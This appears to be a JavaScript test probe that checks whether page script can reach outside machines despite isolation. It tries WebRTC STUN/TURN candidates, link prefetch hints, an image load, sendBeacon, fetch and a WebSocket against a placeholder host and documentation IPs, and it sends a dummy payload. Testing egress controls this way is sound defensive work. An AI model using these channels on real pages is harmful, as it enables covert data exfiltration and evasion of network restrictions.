// Runs in the page: tries everything by which a script can reach another machine.
globalThis.reachedOut = (async () => {
  const name = 'leak.example.org';
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: ['stun:198.51.100.1:3478', `stun:${name}:3478`] },
      { urls: ['turn:198.51.100.2:3478?transport=tcp'], username: 'a', credential: 'b' },
      { urls: [`turns:${name}:443?transport=tcp`], username: 'a', credential: 'b' },
    ],
  });
  const candidates = [];
  peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate);
  peer.createDataChannel('leak');
  await peer.setLocalDescription(await peer.createOffer());

  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: `https://${rel}.${name}/` });
    document.head.append(link);
  }
  new Image().src = `https://${name}/picture`;
  navigator.sendBeacon(`https://${name}/`, 'data');
  navigator.sendBeacon('http://198.51.100.4/', 'data');
  const opened = [];
  for (const address of [`https://${name}/`, 'http://198.51.100.3/'])
    await fetch(address, { mode: 'no-cors' }).then(
      () => opened.push(address),
      () => {},
    );
  await new Promise((resolve) => {
    const socket = new WebSocket(`wss://${name}/`);
    socket.onopen = () => resolve(opened.push(socket.url));
    socket.onerror = resolve;
  });
  // As long as candidates are gathered, and not for ever.
  await new Promise((resolve) => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
    if (peer.iceGatheringState === 'complete') resolve();
    setTimeout(resolve, 10_000);
  });
  return { opened, candidates };
})();
